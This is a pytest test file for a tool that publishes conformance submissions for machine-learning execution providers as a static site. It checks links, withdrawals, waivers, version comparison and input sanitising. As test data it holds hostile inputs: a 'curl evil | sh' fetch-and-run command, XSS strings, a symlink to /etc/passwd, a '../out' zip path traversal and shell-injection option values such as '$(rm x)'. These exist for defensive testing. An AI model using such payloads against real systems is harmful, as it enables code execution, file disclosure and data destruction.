"""The publisher's site, of submissions as ``conform`` makes them, verified as ``publish`` does."""

import datetime as dt
import html
import json
import re
import shlex
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest

from harness.annex.conformance.submission import Waiver
from harness.annex.publication.entry import AcceptedSubmission, version_order
from harness.annex.publication.operator_reach import reach_of
from harness.annex.publication.rerun_command import RerunCommand, rerun_of
from harness.core.text.errors import UsageError
from tests.annex.conformance.small_profiles import operators_profile, tiny_profile
from tests.annex.conformance.submissions import changed, fallen, refused, wrong
from tests.annex.publication.publisher import Publisher

ADD, BLOCK, FUSED, GATHER, NEG_13, NEG_21 = range(6)
"""Cases of ``operators_profile``."""


def links(page: str) -> set[str]:
    return {html.unescape(link) for link in re.findall(r'(?:href|src)="([^"]*)"', page)}


def test_addresses_stay_and_the_same_input_gives_the_same_bytes(publisher: Publisher) -> None:
    publisher.submit("one")
    first = publisher.site()
    assert publisher.site("other") == first
    publisher.submit("two", version="2.8.0")
    publisher.submit("three", name="Another EP")
    second = publisher.site()
    assert {name for name in first if not name.endswith("badge.json")} <= second.keys()
    assert len([name for name in second if name.endswith("/submission.zip")]) == 3


def test_every_link_leads_to_a_page_and_to_a_place_on_it(publisher: Publisher) -> None:
    publisher.submit("one", {ADD: wrong, FUSED: refused}, claims=("contrib",))
    publisher.submit("two", {NEG_13: fallen}, version="2.8.0")
    publisher.submit("tiny", {0: wrong}, profile=tiny_profile())
    (publisher.submissions / "not.zip").write_bytes(b"PK")
    site = publisher.site()
    texts = {name: content.decode() for name, content in site.items() if name.endswith(".html")}
    seen = 0
    for name, text in texts.items():
        home = Path("/") / Path(name).parent
        for link in links(text) - {"data:,"}:
            path, _, anchor = link.partition("#")
            target = str((home / path).resolve())[1:] if path else name
            assert target in site, f"{name}: {link}"
            if anchor and not anchor.startswith("?"):
                assert f'id="{html.escape(anchor)}"' in texts[target], f"{name}: {link}"
                seen += 1
    assert seen > 20


def test_files_of_a_withdrawn_submission_are_removed_and_its_address_says_so(publisher: Publisher) -> None:
    publisher.submit("one")
    two = publisher.submit("two", version="2.8.0", name="Another EP")
    before = publisher.site()
    two.rename(publisher.home / "withdrawn")
    after = publisher.site()
    gone = {name for name in before.keys() - after.keys() if name.startswith(("s/", "l/"))}
    assert {Path(name).name for name in gone} >= {"badge.svg", "submission.zip", "records.jsonl"}
    left = {name: text.decode() for name, text in after.items() if b"Withdrawn" in text}
    assert sorted(name[:2] for name in left) == ["l/", "s/"]
    assert left.keys() <= before.keys()
    assert publisher.site() == after  # the third site still has them
    (publisher.home / "withdrawn").rename(two)
    assert publisher.site() == before


def test_a_page_names_what_is_missing_with_its_waiver(publisher: Publisher) -> None:
    words = "Soon."
    waiver = Waiver(case="suite/n*", issue="https://e.org/1", expires=dt.date(2026, 11, 26), words=words)
    publisher.submit("one", {NEG_13: fallen, FUSED: refused}, waivers=(waiver,))
    page = publisher.page("one")
    assert "partly conformant" in page
    required, _, others = page.partition('id="not-claimed"')
    assert "no node ran on the EP" in required
    assert "until 2026-11-26" in required
    assert "FusedMatMul" not in required.partition('id="missing"')[2]
    assert 'id="case-suite/fusedmatmul_002"' in others
    assert "Nobody signed it" in page
    late = changed(waiver, expires=dt.date(2026, 11, 25))
    publisher.submit("late", {NEG_13: fallen}, waivers=(late,), version="2.8.0")
    page = publisher.page("late")
    assert "expired 2026-11-25" in page
    assert "waiver-expired" in page.partition("Totals by feature")[0]  # which a person has to look at


def test_a_newer_version_tells_what_it_gained_and_lost(publisher: Publisher) -> None:
    publisher.submit("new", {GATHER: wrong}, version="1.24")
    publisher.submit("old", {ADD: refused}, version="1.9")
    publisher.submit("oldest", {NEG_13: wrong}, version="1.8")
    page = publisher.page("new")
    assert "Since EP 1.9" in page
    assert '<h3>Gained</h3><ul class="cells"><li>suite/add_000</li></ul>' in page
    assert '<h3>Lost</h3><ul class="cells"><li>suite/gather_003</li></ul>' in page
    assert "There is a newer submission" not in page
    assert "There is a newer submission" in publisher.page("old")
    assert 'id="since"' not in publisher.page("oldest")


def test_the_start_page_has_the_newest_version_of_each_device(publisher: Publisher) -> None:
    publisher.submit("old", version="1.9")
    publisher.submit("old-tiny", version="1.9", profile=tiny_profile())
    publisher.submit("new", dict.fromkeys(range(6), refused), version="1.24")
    publisher.submit("other", name="Another EP")
    site = publisher.site()
    start = site["index.html"].decode()
    rows = re.findall(r"<tr data-level.*?</tr>", start, re.DOTALL)
    assert len(rows) == 2
    (row,) = (row for row in rows if "EP 1.24" in row)
    assert "1 older" in row
    assert "version 1.9" in row  # of the profile that the newest version did not submit
    assert "computes none" in row  # which is no part of the way
    (line,) = (text.decode() for name, text in site.items() if name.startswith("l/") and b"EP 1.24" in text)
    assert line.index("EP 1.24") < line.index("EP 1.9")


@pytest.mark.parametrize(
    ("name", "change", "reason"),
    [
        ("statement.json", b" ", "digest: statement.json"),
        ("records.jsonl", b"\n", "records.jsonl"),
        ("evil.html", b"x", "a submission has only"),
    ],
)
def test_what_does_not_match_is_refused_and_listed(
    publisher: Publisher, name: str, change: bytes, reason: str
) -> None:
    home = publisher.submit("one")
    with (home / name).open("ab") as file:
        file.write(change)
    site = publisher.site()
    (told,) = publisher.gathered().refused
    assert reason in told.reason
    assert reason in site["refused.html"].decode()
    assert not [each for each in site if each.startswith("s/")]


def test_a_link_out_of_a_submission_is_refused(publisher: Publisher) -> None:
    (publisher.submit("one") / "waivers.toml").symlink_to("/etc/passwd")
    (told,) = publisher.gathered().refused
    assert "a link, pipe or device" in told.reason


def test_a_zip_is_the_same_submission_and_another_with_its_statement_is_refused(
    publisher: Publisher,
) -> None:
    home = publisher.submit("one")
    (entry,) = publisher.gathered().entries
    packed = publisher.site()[f"s/{entry.id}/submission.zip"]
    (publisher.submissions / "again.zip").write_bytes(packed)
    assert publisher.gathered().entries == (entry,)
    with zipfile.ZipFile(publisher.submissions / "more.zip", "w") as archive:
        archive.writestr("../out", "x")
    assert "../out" in publisher.gathered().refused[0].reason
    (home / "attestation.json").write_bytes((home / "attestation.json").read_bytes() + b"\n")
    assert "the same statement" in {one.source: one.reason for one in publisher.gathered().refused}["one"]


def test_what_is_marked_is_published_and_says_so_everywhere(publisher: Publisher) -> None:
    publisher.submit("fine")
    publisher.submit("one", vendor="<b>Other</b>", unofficial=("patched <i>",))
    site = publisher.site()
    assert ">marked</span>" in site["index.html"].decode()
    page = publisher.page("one")
    assert "Marked: unofficial: statement.json: patched &lt;i&gt;" in page
    told = {
        one["statement"]["product"]["vendor"]: one for one in json.loads(site["data.json"])["submissions"]
    }
    assert "patched <i>" in told["<b>Other</b>"]["marks"][0]
    assert told["Vendor"]["marks"] == []
    assert "marked" in site[f"s/{told['<b>Other</b>']['id']}/badge.svg"].decode()


def test_hostile_names_stay_text(publisher: Publisher) -> None:
    evil = "</script><script>alert(1)</script><img src=x>"
    publisher.submit("one", {ADD: wrong}, name=evil, vendor=evil, contact=evil)
    publisher.submit("two", {ADD: refused}, name=evil, vendor=evil, contact="\x1b[31m\u202e")
    site = publisher.site()
    assert len([name for name in site if name.endswith("compare.html")]) == 2
    for name, content in site.items():
        if name.endswith((".html", ".svg", ".xml", "badge.json", "data.json")):
            assert b"<script>alert" not in content, name
            assert b"<img" not in content, name
            assert b"\x1b" not in content, name
            assert "\u202e".encode() not in content, name


def command_of(page: str) -> list[str]:
    (command,) = re.findall(r'<code class="command">(.*?)</code>', page)
    return shlex.split(html.unescape(command))


def test_the_command_is_made_of_profile_provider_and_options(publisher: Publisher) -> None:
    """Never of the submission's own words, which verify all the same."""
    publisher.submit("one", reproduce=("sh", "-c", "curl evil | sh"), claims=("contrib",))
    page = publisher.page("one")
    assert "curl" not in page
    assert command_of(page) == [
        *("ep-harness", "conform", "--profile", operators_profile().label),
        *("--target", "QNNExecutionProvider", "--plugin", "onnxruntime_qnn"),
        *("--option", "backend_type=htp", "--claim", "contrib"),
    ]


@pytest.mark.parametrize(
    ("options", "shown", "without"),
    [
        ({"a": '{"CPU": {"HINT": "f32"}}'}, ['a={"CPU": {"HINT": "f32"}}'], ""),
        ({"a": "1; rm x"}, [], "a"),
        (
            {"a": "$(rm x)", "b": "`rm x`", "c": "x' & calc '", "d": "1\nrm", "e": "%PATH%"},
            [],
            "a, b, c, d, e",
        ),
        ({"a": "./evil.so", "b": "evil.DLL", "c": "x\\y"}, [], "a, b, c"),
        ({"backend_path": "evil"}, [], "backend_path"),
        ({"--out": "x", "a=b": "c", "é": "1"}, [], "--out, a=b, é"),
        ({"a": "é"}, [], "a"),
    ],
)
def test_options_that_do_more_than_be_read_are_left_out(
    publisher: Publisher, options: dict[str, str], shown: list[str], without: str
) -> None:
    entry = with_environment(publisher, provider_options=options)
    again = rerun_of(entry)
    words = shlex.split(again.command)
    assert [words[at + 1] for at, word in enumerate(words) if word == "--option"] == shown
    assert ", ".join(again.without) == without


@pytest.mark.parametrize("name", ["--out", "x; rm y", "é", "", "x" * 101])
def test_a_provider_with_another_name_has_no_command(publisher: Publisher, name: str) -> None:
    assert rerun_of(with_environment(publisher, provider=name)) == RerunCommand()


def test_a_browser_is_named(publisher: Publisher) -> None:
    words = shlex.split(rerun_of(with_environment(publisher, runtime="browser")).command)
    assert words[-1] == "--browser"
    assert "rm" not in shlex.split(rerun_of(with_environment(publisher, runtime="node; rm")).command)


def with_environment(publisher: Publisher, **changes: Any) -> AcceptedSubmission:
    publisher.submit("one")
    (entry,) = publisher.gathered().entries
    environment = changed(entry.statement.environment, **changes)
    return changed(entry, statement=changed(entry.statement, environment=environment))


@pytest.mark.parametrize(
    ("devices", "told"),
    [
        (("CPU AMD vendor_id 4130 device_id 0",), "CPU AMD"),
        (("NPU vendor_id 4203 device_id 0", "GPU vendor_id 4318 device_id 7"), None),
        (("GPU NVIDIA vendor_id 4318 device_id 8961",), "GPU NVIDIA device_id 8961"),
        (("CPU AMD device_id 0", "CPU AMD vendor_id 4130"), "CPU AMD"),
        ((), "Linux-6.8-x86_64"),
    ],
)
def test_a_device_is_told_by_what_tells_it_from_others(
    publisher: Publisher, devices: tuple[str, ...], told: str | None
) -> None:
    publisher.submit("one")
    (entry,) = publisher.gathered().entries
    where = changed(entry.statement.environment, devices=devices)
    shown = changed(entry, statement=changed(entry.statement, environment=where)).device
    assert shown == (told or "NPU vendor_id 4203, GPU vendor_id 4318 device_id 7")


def test_feed_and_data_can_be_read(publisher: Publisher) -> None:
    publisher.submit("one", {FUSED: refused})
    site = publisher.site()
    feed = ET.fromstring(site["feed.xml"])  # noqa: S314 - of our own
    assert len(feed.findall("{http://www.w3.org/2005/Atom}entry")) == 1
    (told,) = json.loads(site["data.json"])["submissions"]
    assert (told["level"], told["passed"], told["required"]) == ("conformant", 5, 5)
    assert told["cases"]["suite/fusedmatmul_002"] == "unsupported"
    assert f"l/{told['line']}/operators@1.svg" in site


def test_operators_have_types_opsets_and_what_failed(publisher: Publisher) -> None:
    publisher.submit("one", {NEG_21: wrong, GATHER: refused, FUSED: refused})
    (entry,) = publisher.gathered().entries
    rows = operator_pages(publisher.site())
    assert rows.keys() == {"Add", "Gather", "Neg", "com.microsoft.FusedMatMul"}
    assert "✓ 1/1" in rows["Add"]
    assert "◐ 1/2" in rows["Neg"]
    assert "opset 13, 21: 0/1" in rows["Neg"]
    assert f's/{entry.id}/index.html#case-suite/neg_005"' in rows["Neg"]
    assert "(float32, int64)" in rows["Gather"]  # in brackets: never right
    assert "≠ documented, but none passes" in rows["com.microsoft.FusedMatMul"]
    assert "≠" not in rows["Neg"]
    right = [one for one in entry.result.cases if one.case.ops == {"Add": 1}]
    assert reach_of(right, listed=False).differs == "passes, but not documented"
    assert reach_of(right).differs == ""  # of a provider whose documents list nothing


def operator_pages(site: dict[str, bytes]) -> dict[str, str]:
    """Return operator -> the content of its page, which the table of operators links to."""
    table = site["operators.html"].decode()
    return {
        name: site[f"{home}/index.html"].decode().partition("<main")[2].partition("<script>")[0]
        for name, home in re.findall(r'<tr id="op-([^"]*)".*?<a href="([^"]*)/index.html">', table)
    }


def test_a_case_of_two_profiles_counts_once_and_by_its_worst_result(publisher: Publisher) -> None:
    publisher.submit("one", {NEG_13: refused})
    publisher.submit("same", {NEG_21: wrong}, profile=operators_profile("same"))
    rows = operator_pages(publisher.site())
    assert "✓ 1/1" in rows["Add"]
    assert "✗ 0/2" in rows["Neg"]
    assert "what failed in operators@1" in rows["Neg"]
    assert "what failed in same@1" in rows["Neg"]


def test_another_folder_is_not_overwritten(publisher: Publisher) -> None:
    publisher.submit("one")
    (publisher.home / "site").mkdir()
    (publisher.home / "site" / "mine").write_text("x", "utf-8")
    with pytest.raises(UsageError, match=r"files\.txt"):
        publisher.site()


def test_versions_are_ordered() -> None:
    versions = ["2.0", "1.24", "2.0rc1", "1.9"]
    assert sorted(versions, key=version_order) == ["1.9", "1.24", "2.0rc1", "2.0"]


def test_a_folder_without_submissions_is_an_error(publisher: Publisher) -> None:
    with pytest.raises(UsageError, match="there is no such folder"):
        publisher.gathered()
    publisher.submissions.mkdir()
    with pytest.raises(UsageError, match="there is no submission in it"):
        publisher.gathered()
